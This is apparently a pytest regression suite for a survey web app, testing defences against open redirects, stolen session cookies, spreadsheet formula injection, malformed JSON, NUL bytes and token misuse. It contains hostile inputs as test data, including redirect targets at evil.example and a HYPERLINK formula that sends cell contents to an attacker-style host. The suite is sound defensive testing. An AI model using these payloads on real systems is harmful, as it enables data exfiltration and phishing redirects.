"""Regression tests for the attack and fault audit: each hostile case that once broke the app."""

from __future__ import annotations

import csv
import json
import os
import stat
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest
import sqlalchemy as sa

from survey import create_app, devices, storage
from survey.auth import users
from survey.export_cells import neutralise_cell
from survey.extensions import db
from survey.models import Response
from tests.survey.conftest import make_payload

PASSWORD = "korrekt hest batteri"
API = "/api/v1/responses"


@pytest.fixture
def staff(app):
    with app.app_context():
        user = users.create_user("ali", PASSWORD, role="interviewer")
        return {"username": user.username, "pseudonym": user.pseudonym}


def login(client, username="ali", **kwargs):
    return client.post("/auth/login", data={"username": username, "password": PASSWORD}, **kwargs)


def stored(app, response_id):
    with app.app_context():
        return storage.get_response(response_id)


# -- login redirect and logout ------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "////evil.example/",
        "//evil.example/",
        "/\\evil.example/",
        "\\\\evil.example/",
        "/\t/evil.example/",
        "https://evil.example/",
        "https:evil.example",
        "javascript:alert(1)",
        "evil.example",
    ],
)
def test_login_next_never_leaves_the_site(client, staff, target):
    reply = login(client, query_string={"next": target})
    assert reply.status_code == 302
    assert reply.headers["Location"] == "/admin/"


def test_login_next_keeps_a_local_path_with_its_query(client, staff):
    reply = login(client, query_string={"next": "/admin/interview?x=1"})
    assert reply.headers["Location"] == "/admin/interview?x=1"


def test_logout_invalidates_a_copied_session_cookie(app, client, staff):
    login(client)
    cookie = client.get_cookie("session").value
    assert client.get("/admin/").status_code == 200
    thief = app.test_client()
    thief.set_cookie("session", cookie)
    assert thief.get("/admin/").status_code == 200
    client.post("/auth/logout")
    assert thief.get("/admin/").status_code == 302
    login(client)  # a new login works again
    assert client.get("/admin/").status_code == 200
    assert thief.get("/admin/").status_code == 302


# -- exports ------------------------------------------------------------------------------

HOSTILE_TEXTS = [
    '=HYPERLINK("https://evil.example/?"&A1,"klik")',
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "vertical\x0btab and bell\x07",
]


def test_neutralise_cell_follows_the_owasp_rule():
    assert neutralise_cell("=1+1") == "'=1+1"
    assert neutralise_cell("Gode naboer") == "Gode naboer"
    assert neutralise_cell(-5) == -5
    assert neutralise_cell("-1") == "-1"  # a choice code, no formula
    assert neutralise_cell("-1+1") == "'-1+1"
    assert neutralise_cell("a\x00b\x0bc", xlsx=True) == "a\ufffdb\ufffdc"
    assert neutralise_cell("a\x0bc") == "a\x0bc"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_neutralise_formulas_and_control_characters(app, client, runner, tmp_path, fmt):
    for text in HOSTILE_TEXTS:
        body = make_payload(
            answers={"tilfreds_omraade": "1", "daarligt_ry": "2", "kommentar": text}
        )
        assert client.post(API, json=body).status_code == 201
    out = tmp_path / f"export.{fmt}"
    result = runner.invoke(
        ["export", "--questionnaire", "mini-survey", "--format", fmt, "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    if fmt == "csv":
        with out.open(encoding="utf-8", newline="") as handle:
            cells = [row["kommentar"] for row in csv.DictReader(handle)]
    else:
        sheet = openpyxl.load_workbook(out).active
        header = [cell.value for cell in sheet[1]]
        column = header.index("kommentar")
        cells = [row[column].value for row in sheet.iter_rows(min_row=2)]
        kinds = {row[column].data_type for row in sheet.iter_rows(min_row=2)}
        assert kinds == {"s"}  # text, never a formula
    assert sorted(cells) == sorted(
        neutralise_cell(text, xlsx=fmt == "xlsx") for text in HOSTILE_TEXTS
    )
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


# -- beboer import ------------------------------------------------------------------------


def test_import_reports_every_bad_line_and_stores_every_good_one(app, runner, tmp_path):
    good = [make_payload() for _ in range(3)]
    huge = json.dumps(make_payload())[:-1] + ', "x": ' + "9" * 5000 + "}"
    surrogate = json.dumps(make_payload(answers={"kommentar": "\ud800"}))
    deep = "[" * 100_000 + "]" * 100_000
    nul = json.dumps(make_payload(answers={"tilfreds_omraade": "1", "kommentar": "a\x00b"}))
    lines = [
        json.dumps(good[0]).encode(),
        huge.encode(),
        surrogate.encode(),
        json.dumps(good[1]).encode(),
        b'{"id": "\xff\xfe"}',
        deep.encode(),
        nul.encode(),
        json.dumps(good[2]).encode(),
    ]
    file = tmp_path / "responses.jsonl"
    file.write_bytes(b"\n".join(lines) + b"\n")
    result = runner.invoke(["import", str(file), "--quiet"])
    assert result.exit_code == 1
    assert "created 3, identical 0, conflict 0, invalid 5" in result.output
    for number, reason in [
        (2, "number"),
        (3, "lone surrogate"),
        (5, "not UTF-8"),
        (6, "nested"),
        (7, "NUL"),
    ]:
        assert f"{file}:{number}: invalid: " in result.output
        line = next(x for x in result.output.splitlines() if x.startswith(f"{file}:{number}:"))
        assert reason in line, line
    assert "Traceback" not in result.output
    for payload in good:
        assert stored(app, payload["id"]).status == "submitted"


# -- API: every malformed request is a 4xx ------------------------------------------------


def post_raw(client, text: str):
    return client.post(
        API, data=text.encode("utf-8", "surrogatepass"), content_type="application/json"
    )


@pytest.mark.parametrize(
    ("body", "status"),
    [
        ("[" * 100_000 + "]" * 100_000, 400),
        ('{"a":' * 50 + "1" + "}" * 50, 400),
        ('{"id": ' + "1" * 5000 + "}", 400),
        ('{"id": 1e999}', 400),
        ('{"id": NaN}', 400),
        ('{"id": "\\ud800"}', 400),
        ('{"id": "a\\u0000b"}', 400),
        ('{"\\u0000": 1}', 400),
    ],
)
def test_unstorable_json_is_400(client, body, status):
    reply = post_raw(client, body)
    assert reply.status_code == status
    assert len(reply.json["message"]) < 200


def test_unstorable_answers_are_400_not_stored(app, client):
    for answers in ({"kommentar": "a\x00b"}, {"kommentar": "\ud800"}, {"alder": 10**400}):
        text = json.dumps(make_payload(answers=answers))
        reply = post_raw(client, text)
        assert reply.status_code == 400, reply.json
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(Response)) == 0


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/questionnaires/mini%00survey",
        "/api/v1/responses/%00",
        "/api/v1/questionnaires/mini-survey?version=1%00",
        "/s/mini-survey?lang=da%00",
        "/s/mini%00survey",
    ],
)
def test_nul_in_path_or_query_is_400(client, path):
    assert client.get(path).status_code == 400


def test_nul_in_username_is_400(client):
    reply = client.post("/auth/login", data={"username": "ali\x00", "password": "x" * 12})
    assert reply.status_code == 400


def test_timestamp_overflow_and_nonsense_times_are_422(client):
    future = (datetime.now(UTC) + timedelta(days=30)).isoformat()
    cases = {
        "started_at": {"started_at": "9999-12-31T23:59:59-23:59"},
        "submitted_at": {"submitted_at": "0001-01-01T00:00:00+23:59"},
    }
    for field, change in cases.items():
        reply = client.post(API, json=make_payload(**change))
        assert reply.status_code == 422 and field in reply.json["errors"], reply.json
    reply = client.post(
        API,
        json=make_payload(
            started_at="2016-05-01T11:00:00+02:00", submitted_at="2016-05-01T10:00:00+02:00"
        ),
    )
    assert reply.json["errors"] == {"submitted_at": ["must not be before started_at"]}
    reply = client.post(API, json=make_payload(submitted_at=future))
    assert "future" in reply.json["errors"]["submitted_at"][0]
    reply = client.post(API, json=make_payload(started_at="1970-01-01T00:00:00Z"))
    assert reply.json["errors"] == {"started_at": ["must not be before 2000-01-01"]}


def test_repeated_errors_are_capped(client):
    many_codes = make_payload(answers={"ry_grunde": ["nope"] * 9999, "daarligt_ry": "1"})
    reply = client.post(API, json=many_codes)
    assert reply.status_code == 422
    assert len(reply.get_data()) < 4000
    many_fields = make_payload(answers={f"q{i}": "1" for i in range(5000)})
    reply = client.post(API, json=many_fields)
    assert reply.status_code == 422
    errors = reply.json["errors"]
    assert len(errors) <= 21 and errors["..."][0].endswith("more fields have errors")
    assert len(reply.get_data()) < 8000


def test_405_carries_allow(client):
    reply = client.put(API, json={})
    assert reply.status_code == 405
    assert reply.headers["Allow"] == "OPTIONS, POST"
    page = client.delete("/auth/login")
    assert page.status_code == 405
    assert set(page.headers["Allow"].split(", ")) == {"GET", "HEAD", "OPTIONS", "POST"}


# -- interviewer mode needs credentials ---------------------------------------------------


def test_anonymous_interviewer_payload_is_401(app, client):
    body = make_payload(mode="interviewer", interviewer_id="INT-ABCDEF")
    reply = client.post(API, json=body)
    assert reply.status_code == 401
    assert reply.headers["WWW-Authenticate"].startswith("Bearer")
    reply = client.post(API, json=body, headers={"Authorization": "Bearer bbd_invented"})
    assert reply.status_code == 401
    assert stored(app, body["id"]) is None


def test_device_token_stores_under_its_interviewer_until_revoked(app, client, staff):
    with app.app_context():
        issued = devices.issue_token("tablet 3", "ali", issued_by="test")
    device = {"Authorization": f"Bearer {issued.token}"}
    body = make_payload(mode="interviewer", assistance="self")
    assert client.post(API, json=body, headers=device).status_code == 201
    assert stored(app, body["id"]).interviewer_id == staff["pseudonym"]
    other = make_payload(mode="interviewer", interviewer_id="INT-000000")
    assert client.post(API, json=other, headers=device).status_code == 403
    with app.app_context():
        assert devices.revoke_token(issued.id)
        row = db.session.get(devices.DeviceToken, issued.id)
        assert row.token_sha256 != issued.token and issued.token not in row.token_sha256
    again = make_payload(mode="interviewer")
    assert client.post(API, json=again, headers=device).status_code == 401


def test_staff_session_may_send_its_own_interviews(app, client, staff):
    login(client)
    body = make_payload(mode="interviewer", interviewer_id=staff["pseudonym"], assistance="self")
    assert client.post(API, json=body).status_code == 201
    assert stored(app, body["id"]).interviewer_id == staff["pseudonym"]


def test_device_token_cli(runner, staff):
    issued = runner.invoke(["device-token", "issue", "--user", "ali", "--name", "tablet 1"])
    assert issued.exit_code == 0, issued.output
    assert "bbd_" in issued.output
    listed = runner.invoke(["device-token", "list"])
    assert "tablet 1\tali" in listed.output and "bbd_" not in listed.output
    token_id = listed.output.split("\t")[0]
    assert runner.invoke(["device-token", "revoke", token_id]).exit_code == 0
    assert runner.invoke(["device-token", "revoke", token_id]).exit_code == 2
    assert (
        runner.invoke(["device-token", "issue", "--user", "nobody", "--name", "x"]).exit_code == 2
    )


# -- resends ------------------------------------------------------------------------------


def test_resend_with_other_assistance_is_409(app, client, staff):
    login(client)
    body = make_payload(mode="interviewer", assistance="self")
    assert client.post(API, json=body).status_code == 201
    assert client.post(API, json=body).status_code == 200
    changed = dict(body, assistance="interpreter")
    assert client.post(API, json=changed).status_code == 409
    assert stored(app, body["id"]).assistance == "self"


# -- files --------------------------------------------------------------------------------


def test_sqlite_database_file_is_created_0600(tmp_path):
    config = {
        "TESTING": True,
        "DATABASE_URL": f"sqlite:///{tmp_path / 'new.db'}",
        "SECRET_KEY": "test",
        "INSTANCE_PATH": str(tmp_path / "instance"),
    }
    application = create_app(config)
    with application.app_context():
        storage.migrate_database()
        storage.publish_file("tests/survey/fixtures/mini-survey.yaml")
        modes = {
            name: stat.S_IMODE(os.stat(tmp_path / name).st_mode)
            for name in ("new.db", "new.db-wal", "new.db-shm")
            if (tmp_path / name).exists()
        }
        db.engine.dispose()
    assert "new.db" in modes
    assert set(modes.values()) == {0o600}, modes


# -- drafts -------------------------------------------------------------------------------


def consent(client):
    return client.post(
        "/s/mini-survey?lang=da&mode=web",
        data={"lang": "da", "mode": "web", "area": "glarbjergvej", "consent": "y"},
    )


def test_drafts_are_rate_limited(app_config):
    app_config.update(RATELIMIT_ENABLED=True, RATELIMIT_DRAFT="3 per minute")
    application = create_app(app_config)
    with application.app_context():
        storage.migrate_database()
        storage.publish_file("tests/survey/fixtures/mini-survey.yaml")
    client = application.test_client()
    statuses = [consent(client).status_code for _ in range(5)]
    assert statuses == [302, 302, 302, 429, 429]
    with application.app_context():
        assert storage.draft_counts() == {"mini-survey": 3}
        db.engine.dispose()


def test_purge_drafts_removes_only_abandoned_drafts(app, client, runner):
    consent(client)
    consent(client)
    submitted = make_payload()
    client.post(API, json=submitted)
    with app.app_context():
        old = utc_hours_ago(100)
        first = db.session.scalars(sa.select(Response).where(Response.status == "draft")).first()
        db.session.execute(
            sa.update(Response).where(Response.id == first.id).values(received_at=old)
        )
        db.session.execute(
            sa.update(Response).where(Response.id == submitted["id"]).values(received_at=old)
        )
        db.session.commit()
    result = runner.invoke(["purge-drafts"])
    assert result.exit_code == 0, result.output
    assert "Deleted 1 drafts" in result.output
    with app.app_context():
        assert storage.draft_counts() == {"mini-survey": 1}
        assert storage.get_response(submitted["id"]).status == "submitted"
    assert "Deleted 0 drafts" in runner.invoke(["purge-drafts", "--older-than", "1"]).output
    assert runner.invoke(["purge-drafts", "--older-than", "0"]).exit_code == 2


def utc_hours_ago(hours: int) -> datetime:
    return datetime.now(UTC) - timedelta(hours=hours)


def test_serve_purges_abandoned_drafts_in_the_background(app, client):
    import time

    from survey import drafts

    consent(client)
    with app.app_context():
        db.session.execute(sa.update(Response).values(received_at=utc_hours_ago(100)))
        db.session.commit()
    stop = drafts.start_daily_purge(app, interval=3600)
    try:
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            with app.app_context():
                if storage.draft_counts() == {}:
                    break
            time.sleep(0.1)
        with app.app_context():
            assert storage.draft_counts() == {}
    finally:
        stop.set()
